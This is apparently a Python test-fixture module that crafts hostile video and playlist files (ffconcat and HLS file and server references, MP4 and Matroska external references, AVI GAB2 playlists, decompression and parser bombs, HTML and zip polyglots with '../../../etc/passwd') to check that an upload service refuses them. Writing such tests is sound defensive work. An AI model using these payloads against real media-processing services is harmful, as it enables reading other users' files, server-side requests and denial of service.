"""Files made to harm: each maker writes one recording that a careless reader would regret.

`Scene` is what an attacker might know: where another participant's recording lies, and a server
that would like to be asked for something.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from fractions import Fraction
from pathlib import Path

import av

from . import clips

FRAMES = 12


@dataclass(frozen=True)
class Scene:
    """The neighbour's recording (beside the upload and elsewhere) and the address to call."""

    victim: Path
    url: str


Maker = Callable[[Scene, Path], object]

#: Texts that a permissive reader takes for lists of other files.
TEXTS = {
    "ffconcat": "ffconcat version 1.0\nfile {name}\n",
    "ffconcat absolute": "ffconcat version 1.0\nfile {path}\n",
    "ffconcat upwards": "ffconcat version 1.0\nfile ../storage/{name}\n",
    "HLS": "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{stem}.ts\n#EXT-X-ENDLIST\n",
    "HLS absolute": "#EXTM3U\n#EXTINF:1,\nfile://{path}\n#EXT-X-ENDLIST\n",
    "HLS http": "#EXTM3U\n#EXTINF:1,\n{url}/segment.ts\n#EXT-X-ENDLIST\n",
    "HLS key": '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n#EXTINF:1,\n{stem}.ts\n',
    "HLS concat": "#EXTM3U\n#EXTINF:1,\nconcat:{url}/header|file://{path}\n#EXT-X-ENDLIST\n",
    "HLS subfile": "#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,999,,:{path}\n#EXT-X-ENDLIST\n",
    "DASH": '<?xml version="1.0"?><MPD><Period><AdaptationSet><Representation><BaseURL>'
    "{name}</BaseURL></Representation></AdaptationSet></Period></MPD>\n",
    "DASH http": '<?xml version="1.0"?><MPD><Period><AdaptationSet><Representation><BaseURL>'
    "{url}/</BaseURL></Representation></AdaptationSet></Period></MPD>\n",
    "SDP": "v=0\no=- 0 0 IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n",
    "SVG": '<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{path}"/></svg>\n',
    "ASX": '<asx version="3.0"><entry><ref href="{url}/x.mp4"/></entry></asx>\n',
    "subtitles": "1\n00:00:00,000 --> 00:00:01,000\n<img src=file://{path}>\n",
    "a concat name": "concat:{path}|{path}\n",
    "prose": "This is not a video.\n",
}


def text(name: str) -> Maker:
    """Give the maker of one of TEXTS."""

    def write(scene: Scene, path: Path) -> None:
        path.write_text(
            TEXTS[name].format(
                path=scene.victim, name=scene.victim.name, stem=scene.victim.stem, url=scene.url
            )
        )

    return write


def whole(path: Path, container: str = "mp4", **options: object) -> Path:
    """Write an honest clip: in a WebM VP8, in an AVI MPEG-4, elsewhere H.264."""
    codec = {"webm": "libvpx", "avi": "mpeg4"}.get(container, "libx264")
    pts = clips.constant_pts(Fraction(30), FRAMES)
    time_base = Fraction(1, 30) if container == "avi" else Fraction(1, 90000)
    if container == "avi":
        pts = list(range(FRAMES))
    return clips.write_clip(
        path, pts, container=container, codec=codec, time_base=time_base, **options
    )


# MP4


def box(kind: bytes, content: bytes = b"") -> bytes:
    """Give one box."""
    return struct.pack(">I4s", 8 + len(content), kind) + content


_HEAD = box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2avc1mp41")


def _reference(location: Callable[[Scene], bytes]) -> Maker:
    """The sample data lie in another file: a data reference that is not "this file"."""

    def write(scene: Scene, path: Path) -> None:
        data = whole(path).read_bytes()
        old = box(b"url ", b"\x00\x00\x00\x01")
        assert data.count(old) == 1
        path.write_bytes(_grown(data, data.index(old), len(old), location(scene)))

    return write


def _grown(data: bytes, at: int, length: int, new: bytes) -> bytes:
    """Replace bytes inside the index at the file's end; every box around them grows."""
    extra = len(new) - length
    out = bytearray(data[:at] + new + data[at + length :])
    for kind in (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"):
        start = data.index(kind) - 4
        size = struct.unpack_from(">I", data, start)[0]
        assert start < at < start + size
        struct.pack_into(">I", out, start, size + extra)
    return bytes(out)


def _url(text: str) -> bytes:
    return box(b"url ", b"\x00\x00\x00\x00" + text.encode() + b"\x00")


def _alias(path: Path) -> bytes:
    """A Macintosh alias (what QuickTime wrote) whose last part is an absolute path."""
    name = path.name.encode()[:27]
    body = bytearray(150)
    struct.pack_into(">HH", body, 4, 150, 2)
    body[50] = len(name)
    body[51 : 51 + len(name)] = name
    struct.pack_into(">HH", body, 130, 1, 1)
    for kind, part in ((2, str(path).replace("/", ":").encode()), (18, str(path).encode())):
        body += struct.pack(">HH", kind, len(part)) + part + b"\x00" * (len(part) % 2)
    body += struct.pack(">HH", 0xFFFF, 0)
    return box(b"alis", b"\x00\x00\x00\x00" + bytes(body))


def _tiny_boxes(_scene: Scene, path: Path) -> None:
    path.write_bytes(_HEAD + box(b"free") * 2_000_000)


def _tiny_boxes_inside(_scene: Scene, path: Path) -> None:
    path.write_bytes(_HEAD + box(b"moov", box(b"udta", box(b"free") * 1_000_000)))


def _many_tracks(_scene: Scene, path: Path) -> None:
    path.write_bytes(_HEAD + box(b"moov", box(b"trak", box(b"mdia")) * 100_000))


def _deep(_scene: Scene, path: Path) -> None:
    depth = 100_000
    sizes = (8 * (depth - level) for level in range(depth))
    path.write_bytes(_HEAD + b"".join(struct.pack(">I4s", size, b"moov") for size in sizes))


def _huge(size: bytes, kind: bytes) -> Maker:
    def write(_scene: Scene, path: Path) -> None:
        path.write_bytes(whole(path).read_bytes() + size[:4] + kind + size[4:] + b"\x00" * 64)

    return write


def _many_samples(_scene: Scene, path: Path) -> None:
    """An index of 1000 bytes that describes two thousand million pictures of one byte."""
    data = bytearray(whole(path).read_bytes())
    many = (1 << 31) - 1
    at = data.index(b"stsz") + 8
    struct.pack_into(">II", data, at, 1, many)
    struct.pack_into(">II", data, data.index(b"stts") + 12, many, 1)
    struct.pack_into(">I", data, data.index(b"stsc") + 16, many)
    path.write_bytes(data)


def _a_day(_scene: Scene, path: Path) -> None:
    """A day at one picture per second, in about a megabyte: the same empty picture again."""
    packets = list(_packets("libx264", 2, {"preset": "ultrafast", "x264-params": "keyint=9999"}))
    with av.open(str(path), "w", format="mp4") as out:
        stream = out.add_stream("libx264", rate=1)
        stream.width, stream.height, stream.pix_fmt = clips.WIDTH, clips.HEIGHT, "yuv420p"
        stream.codec_context.time_base = Fraction(1, 1)
        stream.codec_context.open()
        for second in range(24 * 3600):
            packet = av.Packet(packets[min(second, 1)])
            packet.stream, packet.time_base = stream, Fraction(1, 1)
            packet.pts = packet.dts = second
            packet.is_keyframe = second == 0
            out.mux(packet)


def _packets(codec: str, count: int, options: dict[str, str]) -> Iterator[bytes]:
    """Encode the same picture `count` times."""
    context = av.CodecContext.create(codec, "w")
    context.width, context.height, context.pix_fmt = clips.WIDTH, clips.HEIGHT, "yuv420p"
    context.time_base, context.options = Fraction(1, 30), options
    frame = av.VideoFrame.from_ndarray(clips.numbered(0), format="gray").reformat(format="yuv420p")
    for index in range(count):
        frame.pts = index
        yield from (bytes(packet) for packet in context.encode(frame))
    yield from (bytes(packet) for packet in context.encode())


# Matroska and WebM


def element(identifier: int, content: bytes) -> bytes:
    """Give one EBML element, its size in eight bytes."""
    name = identifier.to_bytes((identifier.bit_length() + 7) // 8, "big")
    return name + (len(content) | 1 << 56).to_bytes(8, "big") + content


_SEGMENT = bytes.fromhex("18538067")
_OPEN_END = b"\x01" + b"\xff" * 7


def _with_elements(extra: Callable[[Scene], bytes]) -> Maker:
    """Put elements at the segment's beginning; its length is left open, as live recordings do."""

    def write(scene: Scene, path: Path) -> None:
        data = whole(path, "matroska").read_bytes()
        start = data.index(_SEGMENT) + 4
        path.write_bytes(data[:start] + _OPEN_END + extra(scene) + data[start + 8 :])

    return write


def _linked(scene: Scene) -> bytes:
    """Say that the recording goes on in the neighbour's file."""
    name = scene.victim.name.encode()
    return element(
        0x1549A966,
        element(0x2AD7B1, (1_000_000).to_bytes(4, "big"))
        + element(0x3EB923, b"\x11" * 16)
        + element(0x3E83BB, name)
        + element(0x3C83AB, str(scene.victim).encode()),
    )


def _chapters(scene: Scene) -> bytes:
    """Ordered chapters that are to be played from the neighbour's segment."""
    atom = (
        element(0x73C4, b"\x01")
        + element(0x91, b"\x00")
        + element(0x92, (1_000_000_000).to_bytes(8, "big"))
        + element(0x6E67, b"\x11" * 16)
        + element(0x80, element(0x85, f"file://{scene.victim}".encode()))
    )
    return element(0x1043A770, element(0x45B9, element(0x45DD, b"\x01") + element(0xB6, atom)))


def _attachments(scene: Scene) -> bytes:
    attached = (
        element(0x466E, f"../../{scene.victim.name}".encode())
        + element(0x4660, b"text/html")
        + element(0x465C, b"<script>alert('waver')</script>")
        + element(0x46AE, b"\x07")
    )
    return element(0x1941A469, element(0x61A7, attached))


_VP8_START = b"\x9d\x01\x2a"
_FLOOD = (12_000, 12_000)


def _flood(*, from_frame: int) -> Maker:
    """Pictures of 12 000 × 12 000 by their own account; the container says nothing of it."""

    def write(_scene: Scene, path: Path) -> None:
        data = bytearray(whole(path, "webm", codec_options={"g": "1"}).read_bytes())
        at = -1
        for frame in range(FRAMES):
            at = data.index(_VP8_START, at + 1)
            if frame >= from_frame:
                struct.pack_into("<HH", data, at + 3, *_FLOOD)
        path.write_bytes(data)

    return write


def _declared_flood(_scene: Scene, path: Path) -> None:
    """Pictures of 12 000 × 12 000, as the container says too, in a few hundred bytes."""
    size = (320, 272)
    with av.open(str(path), "w", format="webm") as out:
        stream = out.add_stream("libvpx", rate=30)
        (stream.width, stream.height), stream.pix_fmt = size, "yuv420p"
        out.mux(stream.encode(av.VideoFrame(*size, "yuv420p")))
        out.mux(stream.encode())
    data = bytearray(path.read_bytes())
    struct.pack_into("<HH", data, data.index(_VP8_START) + 3, *_FLOOD)
    for identifier, was, says in zip((b"\xb0", b"\xba"), size, _FLOOD, strict=True):
        old = identifier + b"\x82" + was.to_bytes(2, "big")
        assert data.count(old) == 1
        struct.pack_into(">H", data, data.index(old) + 2, says)
    path.write_bytes(data)


# AVI


def _chunk(kind: bytes, content: bytes) -> bytes:
    return kind + struct.pack("<I", len(content)) + content + b"\x00" * (len(content) % 2)


def _list(kind: bytes, *content: bytes) -> bytes:
    return _chunk(b"LIST", kind + b"".join(content))


def _gab2(playlist: str) -> Maker:
    """An AVI whose subtitles are a playlist: how files were read from servers in 2017."""

    def write(scene: Scene, path: Path) -> None:
        listed = playlist.format(path=scene.victim, url=scene.url, name=scene.victim.name).encode()
        name = b"s\x00"
        words = b"GAB2\x00\x02\x00" + struct.pack("<I", len(name)) + name + b"\x04\x00"
        words += struct.pack("<I", len(listed)) + listed
        pictures = list(_packets("mpeg4", FRAMES, {}))
        movie = [_chunk(b"01tx", words)] + [_chunk(b"00dc", one) for one in pictures]
        riff = _list(
            b"hdrl",
            _chunk(b"avih", struct.pack("<14I", 33333, 0, 0, 0x10, len(pictures), 0, 2, 0,
                                        clips.WIDTH, clips.HEIGHT, 0, 0, 0, 0)),
            _list(b"strl",
                  _chunk(b"strh", b"vidsFMP4" + struct.pack("<10I", 0, 0, 0, 1, 30, 0,
                                                            len(pictures), 0, 0, 0) + b"\x00" * 8),
                  _chunk(b"strf", struct.pack("<IiiHH4s5I", 40, clips.WIDTH, clips.HEIGHT, 1, 24,
                                              b"FMP4", 0, 0, 0, 0, 0))),
            _list(b"strl",
                  _chunk(b"strh", b"txts\x00\x00\x00\x00" + struct.pack("<10I", 0, 0, 0, 1, 30, 0,
                                                                        1, 0, 0, 0) + b"\x00" * 8),
                  _chunk(b"strf", b"")),
        ) + _list(b"movi", *movie)  # fmt: skip
        path.write_bytes(_chunk(b"RIFF", b"AVI " + riff))

    return write


# Two kinds of file in one


def _after(container: str, tail: bytes) -> Maker:
    def write(_scene: Scene, path: Path) -> None:
        path.write_bytes(whole(path, container).read_bytes() + tail)

    return write


def _before(head: bytes) -> Maker:
    def write(_scene: Scene, path: Path) -> None:
        path.write_bytes(head + whole(path).read_bytes())

    return write


def _magic_then_playlist(scene: Scene, path: Path) -> None:
    path.write_bytes(_HEAD + TEXTS["HLS"].format(stem=scene.victim.stem).encode())


def _magic_then_list_in_a_box(scene: Scene, path: Path) -> None:
    listed = TEXTS["ffconcat absolute"].format(path=scene.victim).encode()
    path.write_bytes(_HEAD + box(b"free", listed) + box(b"moov", listed))


def _bytes(content: bytes) -> Maker:
    def write(_scene: Scene, path: Path) -> None:
        path.write_bytes(content)

    return write


def _patched(container: str, old: bytes, new: bytes) -> Maker:
    def write(_scene: Scene, path: Path) -> None:
        data = whole(path, container).read_bytes()
        assert old in data
        path.write_bytes(data.replace(old, new))

    return write


_HTML = b"<!doctype html><script>alert('waver')</script>"
_ZIP = b"PK\x03\x04" + b"\x00" * 22 + b"../../../etc/passwd" + b"PK\x05\x06" + b"\x00" * 18
_JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"

#: What costs ffmpeg minutes where no probe refuses it first.
HEAVY = ("mp4 of millions of boxes", "mp4 of a million boxes in its index", "mp4 of a day")
#: Files with a video's first bytes: what a reader makes of them decides. A flag says which must be
#: refused; the others may be honest about their own pictures, and are then used.
BINARIES: dict[str, tuple[Maker, bool]] = {
    "mp4 data in the neighbour's file": (_reference(lambda s: _url(s.victim.name)), False),
    "mp4 data at a file address": (_reference(lambda s: _url(f"file://{s.victim}")), False),
    "mp4 data on a server": (_reference(lambda s: _url(f"{s.url}/x.mp4")), False),
    "mp4 data behind an alias": (_reference(lambda s: _alias(s.victim)), False),
    "mp4 of millions of boxes": (_tiny_boxes, True),
    "mp4 of a million boxes in its index": (_tiny_boxes_inside, True),
    "mp4 of a hundred thousand tracks": (_many_tracks, True),
    "mp4 nested a hundred thousand deep": (_deep, True),
    "mp4 box of 4 GB": (_huge(b"\xff\xff\xff\xff", b"mdat"), True),
    "mp4 box of 8 EB": (_huge(b"\x00\x00\x00\x01\x7f" + b"\xff" * 7, b"mdat"), True),
    "mp4 box of less than nothing": (_huge(b"\x00\x00\x00\x01" + b"\xff" * 8, b"mdat"), True),
    "mp4 of 2 000 million pictures": (_many_samples, True),
    "mp4 of a day": (_a_day, True),
    "mkv that goes on in another file": (_with_elements(_linked), False),
    "mkv with chapters of another file": (_with_elements(_chapters), False),
    "mkv with attachments": (_with_elements(_attachments), False),
    "webm flood, declared": (_declared_flood, True),
    "webm flood, hidden": (_flood(from_frame=0), True),
    "webm flood, later": (_flood(from_frame=1), False),
    "avi with a playlist of files": (_gab2("#EXTM3U\n#EXTINF:1,\nfile://{path}\n"), False),
    "avi with a playlist of addresses": (_gab2("#EXTM3U\n#EXTINF:1,\n{url}/x\n"), False),
    "avi with a list": (_gab2("ffconcat version 1.0\nfile {path}\n"), False),
    "webm and page": (_after("webm", _HTML), False),
    "mp4 and archive": (_after("mp4", box(b"free", _ZIP)), False),
    "mp4, then an archive": (_after("mp4", _ZIP), True),
    "jpeg and mp4": (_before(_JPEG), True),
    "archive and mp4": (_before(_ZIP), True),
    "page and mp4": (_before(_HTML), True),
    "mp4's first bytes, then a playlist": (_magic_then_playlist, True),
    "mp4's first bytes, a list in boxes": (_magic_then_list_in_a_box, True),
    "mp4 of an unknown codec": (_patched("mp4", b"avc1\x00", b"zzzz\x00"), True),
    "mkv of an unknown codec": (_patched("matroska", b"V_MPEG4/ISO/AVC", b"V_NONE/AT/ALL!!"), True),
    "mkv with words in no known letters": (
        _patched("matroska", b"Lavf", b"\xff\xfe\x80\xc3"),
        False,
    ),
    "nothing": (_bytes(b""), True),
    "one byte": (_bytes(b"\x00"), True),
    "an mp4's first eight bytes": (_bytes(_HEAD[:8]), True),
    "a webm's first four bytes": (_bytes(b"\x1a\x45\xdf\xa3"), True),
    "an avi's first twelve bytes": (_bytes(b"RIFF\x04\x00\x00\x00AVI "), True),
}
